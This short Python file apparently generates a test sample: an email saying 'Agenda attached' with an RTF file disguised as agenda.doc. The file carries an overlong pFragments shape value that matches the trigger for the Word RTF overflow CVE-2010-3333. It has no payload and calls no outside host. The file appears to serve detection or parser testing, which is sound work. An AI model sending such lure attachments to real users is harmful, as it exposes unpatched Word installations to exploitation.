"""The shape that overran Word: digits without end in a list of points (CVE-2010-3333)."""
from kit import *


def make():
    doc = (Rtf().text("Agenda")
           .raw("{\\shp{\\*\\shpinst\\shpleft0{\\sp{\\sn pFragments}{\\sv 7;6;%s}}}}" % ("41" * 120)).bytes())
    return (Mail("Agenda", "info@example.net", date="Wed, 9 Feb 2011 10:20:00 +0900")
            .text("Agenda attached.\n").attach("agenda.doc", doc, "application/msword").bytes())
